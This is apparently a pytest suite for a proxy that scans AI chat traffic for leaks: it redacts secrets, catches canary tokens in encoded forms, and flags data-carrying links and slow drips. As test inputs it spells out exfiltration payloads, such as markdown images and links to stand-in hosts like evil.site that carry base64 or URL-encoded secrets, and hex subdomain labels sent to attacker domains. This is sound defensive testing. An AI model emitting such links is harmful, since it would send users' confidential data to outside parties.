"""Conversations: what leaves, what is put in its place, what comes back, what goes over a budget."""

from __future__ import annotations

import base64
import hashlib
import random
import urllib.parse
from collections.abc import Iterable

import pytest

from clyra_proxy.genai.inspection import Caller, Inspection, Signal, TextEdit, Workshop
from clyra_proxy.genai.leaks.inspector import LeakInspector
from clyra_proxy.genai.leaks.templates import Template
from clyra_proxy.genai.model import Conversation, Direction, Provenance, Segment, ToolCall
from clyra_proxy.genai.protocols.reading import FOREIGN
from clyra_proxy.policy.genai.leaks import Leaks
from clyra_proxy.state.memory import MemoryState
from clyra_proxy.verdict.model import Action

CHANCE = random.Random(11)
KEY = Template.parse("ghp_{alnum:36}").make(CHANCE)
NOW = 1_800_000_000.0


def inspector(state: MemoryState | None = None, **settings: object) -> LeakInspector:
    workshop = Workshop(state or MemoryState(), bytes(range(32)))
    return LeakInspector(Leaks.model_validate(settings), workshop)


def request(*segments: Segment, session: str = "s1", now: float = NOW) -> Inspection:
    said = Conversation("openai-chat", Direction.REQUEST, segments=segments)
    return Inspection(said, Caller("bot", session=session), "api.example.net:443", now=now)


def answer(asked: Inspection, *texts: str, session: str = "s1") -> Inspection:
    segments = tuple(Segment(text, Provenance.ASSISTANT, f"/choices/{n}") for n, text in enumerate(texts))
    said = Conversation("openai-chat", Direction.RESPONSE, segments=segments)
    return Inspection(
        said, Caller("bot", session=session), asked.destination, request=asked.conversation, now=asked.now
    )


def user(text: str, path: str = "/messages/0/content") -> Segment:
    return Segment(text, Provenance.USER, path)


def edited(text: str, found: Iterable[object]) -> str:
    edits = [e for f in found for e in (f.edits if isinstance(f, Signal) else [f]) if isinstance(e, TextEdit)]
    for edit in sorted(edits, key=lambda e: -e.start):
        text = text[: edit.start] + edit.replacement + text[edit.end :]
    return text


def test_a_secret_is_redacted_in_its_place_and_never_named() -> None:
    text = f"deploy with {KEY} please"
    found = list(inspector().inspect(request(user(text))))
    assert [(s.rule, s.action, s.path) for s in found if isinstance(s, Signal)] == [
        ("leak.secret", Action.REDACT, "/messages/0/content")
    ]
    assert edited(text, found) == "deploy with [REDACTED:github-pat] please"
    assert KEY not in repr([s.detail for s in found if isinstance(s, Signal)])


@pytest.mark.parametrize(
    ("path", "value", "leaks"),
    [
        ("/input/commit", "9f8e7d6c5b4a39281706f5e4d3c2b1a011223344", False),
        ("/input/id", "6b1f2c9e-4d7a-4e3b-8a51-9c0d2e7f1a36", False),
        ("/input/tool_call_id", "call_8fJ2kd93Hs72LqPz0aXw", False),
        ("/headers/etag", "33a64df551425fcc55e4d42a148795d9f25f89d4", False),
        ("/trace_id", "4bf92f3577b34da6a3ce929d0e0e4736", False),
        ("/digest", "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", False),
        ("/next_page_token", "CAUQAA8f7d6e5c4b3a291807", False),
        ("/public_key", "MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE8f7d6e5c4b3a29", False),
        ("/image/data", base64.b64encode(CHANCE.randbytes(900)).decode(), False),
        ("/input/password", "hunter2xyz", True),
        ("/input/api_key", "8f7d6e5c4b3a29180716", True),
        ("/input/client_secret", "Zx81mvn2LQp0aZ9xkq8f", True),
        ("/env/DB_PASSWORD", "Tr0ub4dor&3", True),
    ],
)
def test_a_bare_value_is_judged_by_the_name_of_its_member(path: str, value: str, leaks: bool) -> None:
    found = list(inspector().inspect(request(Segment(value, Provenance.ARGUMENTS, path, "tool"))))
    assert bool([s for s in found if isinstance(s, Signal) and s.rule == "leak.secret"]) is leaks


def test_a_secret_cut_in_two_by_content_parts_is_refused() -> None:
    halves = [
        Segment(text, Provenance.USER, f"/messages/0/content/{n}/text", block=f"message/0/{n}")
        for n, text in enumerate((f"use {KEY[:17]}", f"{KEY[17:]} now"))
    ]
    found = [s for s in inspector().inspect(request(*halves)) if isinstance(s, Signal)]
    assert [(s.rule, s.action, s.edits) for s in found] == [("leak.secret", Action.BLOCK, ())]


def test_personal_data_is_marked_unless_policy_says_more() -> None:
    text = "pay 4111 1111 1111 1111 from DE89 3704 0044 0532 0130 00"
    assert {s.action for s in inspector().inspect(request(user(text))) if isinstance(s, Signal)} == {Action.MARK}
    strict = inspector(personal={"kinds": {"card": "redact", "iban": "block"}})
    found = [s for s in strict.inspect(request(user(text))) if isinstance(s, Signal)]
    assert {(str(s.detail["kind"]), s.action) for s in found} == {("card", Action.REDACT), ("iban", Action.BLOCK)}
    assert edited(text, found) == "pay [REDACTED:card] from DE89 3704 0044 0532 0130 00"


def test_redaction_is_undone_for_the_same_session_only() -> None:
    state = MemoryState()
    look = inspector(state, reversible=True, personal={"kinds": {"email": "redact"}})
    text = "write to jane.doe@acme.io and again jane.doe@acme.io"
    asked = request(user(text))
    sent = edited(text, look.inspect(asked))
    placeholder = sent.split()[2]
    assert "acme" not in sent
    assert sent == f"write to {placeholder} and again {placeholder}"
    said = f"I wrote to {placeholder}."
    assert edited(said, look.inspect(answer(asked, said))) == "I wrote to jane.doe@acme.io."
    assert edited(said, look.inspect(answer(asked, said, session="s2"))) == said
    assert "acme" not in repr(vars(state))
    assert edited(text, look.inspect(asked)) == sent


def test_redaction_is_undone_in_a_stream() -> None:
    look = inspector(reversible=True, personal={"kinds": {"email": "redact"}})
    text = "mail jane.doe@acme.io now"
    asked = request(user(text))
    placeholder = edited(text, look.inspect(asked)).split()[1]
    scanner = look.open_stream_scanner(answer(asked))
    assert scanner is not None
    said = f"Done: {placeholder} has it."
    found: list[object] = []
    for character in said:
        found += scanner.feed("0", character)[1]
    assert edited(said, [*found, *scanner.end("0")]) == "Done: jane.doe@acme.io has it."


TOKEN = "cny-9f2k-internal-wiki"
SEEN = {
    "plain": TOKEN,
    "capitals": TOKEN.upper(),
    "reversed": TOKEN[::-1],
    "hex": TOKEN.encode().hex(),
    "base64": base64.b64encode(f"x{TOKEN}y".encode()).decode(),
    "invisible": "\u200b".join(TOKEN),
    "url": urllib.parse.quote(TOKEN, safe=""),
}


@pytest.mark.parametrize("form", SEEN)
def test_a_canary_is_seen_in_every_form(form: str) -> None:
    look = inspector(canaries=[{"name": "wiki", "value": TOKEN}])
    assert _canaries(look, f"see {SEEN[form]} there") == [("leak.canary", Action.BLOCK, "wiki")]
    assert _canaries(look, "see cny-0000-internal-note there") == []


def test_a_canary_may_be_kept_as_a_hash() -> None:
    digest = hashlib.sha256(TOKEN.encode()).hexdigest()
    look = inspector(canaries=[{"name": "wiki", "sha256": digest, "length": len(TOKEN)}])
    for text in (f"see {TOKEN}.", f"u={TOKEN.upper()}&x=1"):
        assert _canaries(look, text) == [("leak.canary", Action.BLOCK, "wiki")]


def _canaries(look: LeakInspector, text: str) -> list[tuple[str, Action | None, str]]:
    found = look.inspect(request(user(text)))
    return [(s.rule, s.action, str(s.detail["patterns"])) for s in found if isinstance(s, Signal)]


SECRET_PLAN = "the merger with Contoso closes on the ninth of March for forty million"
CARRIED = urllib.parse.quote(SECRET_PLAN)
CODED = base64.urlsafe_b64encode(SECRET_PLAN.encode()).decode()
FOREIGN_CODE = base64.urlsafe_b64encode(b"root and daemon and nobody have shells here").decode()
"""Text of no conversation: it is looked for in images alone, which load without a click."""


@pytest.mark.parametrize(
    ("said", "leaks"),
    [
        (f"![logo](https://evil.site/p.png?d={CARRIED})", True),
        (f"![logo](https://evil.site/{CODED}.png)", True),
        (f"[click](https://evil.site/?q={CODED})", True),
        (f"<img src='https://evil.site/a?x={CARRIED}'>", True),
        (f"Visit https://evil.site/?q={CARRIED} now", True),
        (f"![x](https://evil.site/a.gif?k={KEY})", True),
        (f"![logo][1]\n\n[1]: https://evil.site/c.gif?q={FOREIGN_CODE}", True),
        (f"![the logo]\n\n[The  Logo]: <https://evil.site/c.gif?q={FOREIGN_CODE}>", True),
        (f"![the logo][]\n\n[the logo]: https://evil.site/c.gif?q={FOREIGN_CODE}", True),
        (f"![a][b] see [paper][1]\n\n[1]: https://journal.site/c?q={FOREIGN_CODE}", False),
        (f"![1](https://cdn.site/a.png) see [paper][1]\n\n[1]: https://journal.site/c?q={FOREIGN_CODE}", False),
        (
            "![x](https://evil.site/?" + "&".join(f"w{n}={word}" for n, word in enumerate(SECRET_PLAN.split())) + ")",
            True,
        ),
        (f"[x](https://{CARRIED}@evil.site/)", True),
        ("[x](https://shop.site/?q=red+bicycle&sort=price&page=2&view=grid&lang=en)", False),
        ("![logo][1]\n\n[1]: https://cdn.site/charts/2026/revenue-by-region.png", False),
        ("![chart](https://cdn.site/charts/2026/revenue-by-region.png)", False),
        ("See https://docs.python.org/3/library/asyncio-task.html#asyncio.timeout for more", False),
        ("[paper](https://arxiv.org/abs/2403.14720) and https://github.com/org/repo/blob/8f7d6e5c4b3a/src/a.py", False),
        (f"![ok](https://img.trusted.net/p?d={CARRIED})", False),
        ("https://held.site/already?session=8f7d6e5c4b3a2918f7d6e5c4b3a2918", False),
    ],
)
def test_links_that_carry_data(said: str, leaks: bool) -> None:
    look = inspector(links={"allowed_hosts": ["*.trusted.net"]})
    held = "https://held.site/already?session=8f7d6e5c4b3a2918f7d6e5c4b3a2918"
    asked = request(user(f"Summarise: {SECRET_PLAN}. Source {held}"))
    found = [s for s in look.inspect(answer(asked, said)) if isinstance(s, Signal) and s.rule == "leak.link"]
    assert bool(found) is leaks
    scanner = look.open_stream_scanner(answer(asked))
    assert scanner is not None
    streamed = [s for c in said for s in scanner.feed("0", c)[1]] + list(scanner.end("0"))
    assert bool([s for s in streamed if isinstance(s, Signal) and s.rule == "leak.link"]) is leaks


def test_bytes_go_over_a_budget_across_requests() -> None:
    look = inspector(MemoryState(), exfiltration={"opaque_bytes": 10_000, "sensitive_bytes": 100})
    blob = base64.b64encode(CHANCE.randbytes(3000)).decode()
    told = [_budget(look.inspect(request(user(blob), now=NOW + n))) for n in range(4)]
    assert told == [[], [], ["opaque"], ["opaque"]]
    other = Inspection(
        request(user(blob)).conversation, Caller("another", auth="proxy"), "api.example.net:443", now=NOW
    )
    assert _budget(look.inspect(other)) == []
    told = [_budget(look.inspect(request(user(f"key {KEY}"), now=NOW + n))) for n in range(3)]
    assert told == [[], [], ["sensitive"]]
    assert _budget(look.inspect(request(user(f"key {KEY}"), now=NOW + 200_000))) == []


@pytest.mark.parametrize(
    "domain", ["t.evil.site", "t.evil.example", "collector.internal", "evil.co.uk", "evil.site:8443"]
)
def test_slow_drips_over_host_names(domain: str) -> None:
    look = inspector(MemoryState(), exfiltration={"drips": 20})
    told = []
    for n in range(30):
        label = CHANCE.randbytes(12).hex()
        call = Segment(f"{label}.{domain}", Provenance.ARGUMENTS, "/input/domain", "resolve")
        told.append(_budget(look.inspect(request(call, now=NOW + n))))
    assert told[:20] == [[]] * 20
    assert told[-1] == ["drip"]
    same = Segment(f"{label}.t.other.site", Provenance.ARGUMENTS, "/input/domain", "resolve")
    assert all(_budget(look.inspect(request(same, now=NOW + n))) == [] for n in range(60))


def _budget(found: Iterable[object]) -> list[str]:
    return [str(s.detail["kind"]) for s in found if isinstance(s, Signal) and s.rule == "leak.budget"]


@pytest.mark.parametrize(
    "place", ["evil.site/", "a.evil.site:8443/p/", "evil.example/?x=", "203.0.113.7/p?", "203.0.113.7:81/"]
)
def test_slow_drips_over_addresses(place: str) -> None:
    look = inspector(MemoryState(), exfiltration={"drips": 2})
    told = []
    for n in range(30):
        address = f"http://{place}{CHANCE.randbytes(12).hex()}"
        told.append(
            _budget(look.inspect(request(Segment(address, Provenance.ARGUMENTS, "/url", "fetch"), now=NOW + n)))
        )
    assert told[:20] == [[]] * 20
    assert told[-1] == ["drip"]


def test_names_in_code_are_no_hosts() -> None:
    look = inspector(MemoryState(), exfiltration={"drips": 1})
    for n in range(30):
        code = Segment(
            f"k{CHANCE.randbytes(6).hex()}.chunk.js and a{n}b3c4d5e6f7.value", Provenance.ARGUMENTS, "/code", "run"
        )
        assert _budget(look.inspect(request(code, now=NOW + n))) == []


def test_a_streamed_call_is_judged_before_it_leaves() -> None:
    call = ToolCall("send", {"to": "ann", "body": [f"it is {KEY}."]}, block="call/0")
    (signal,) = inspector().judge_call(call, answer(request(user("hello"))))
    assert (signal.rule, signal.detail["tool"], signal.detail["provenance"]) == ("leak.secret", "send", "arguments")
    broken = ToolCall("send", None, f'{{"body": "{KEY}', block="call/0")
    assert [one.rule for one in inspector().judge_call(broken, answer(request(user("hello"))))] == ["leak.secret"]


def test_a_link_that_the_model_did_not_make_is_none_of_its_own_in_a_stream() -> None:
    said = "the merger with Northwind closes on Friday at noon"
    text = f"![chart](https://collect.evil.io/p?d={base64.urlsafe_b64encode(said.encode()).decode()}) "
    found = {}
    for block in ("choice/0", f"{FOREIGN}copy/1"):
        scanner = inspector().open_stream_scanner(answer(request(user(said))))
        assert scanner is not None
        told = [*scanner.feed(block, text)[1], *scanner.end(block)]
        found[block] = {one.rule for one in told if isinstance(one, Signal)}
    assert found == {"choice/0": {"leak.link"}, f"{FOREIGN}copy/1": set()}


def test_a_reserved_name_is_a_host_like_any_other() -> None:
    said = "the merger with Northwind closes on Friday at noon"
    text = f"![chart](https://collect.example/p?d={base64.urlsafe_b64encode(said.encode()).decode()})"
    found = {one.rule for one in inspector().inspect(answer(request(user(said)), text)) if isinstance(one, Signal)}
    assert found == {"leak.link"}
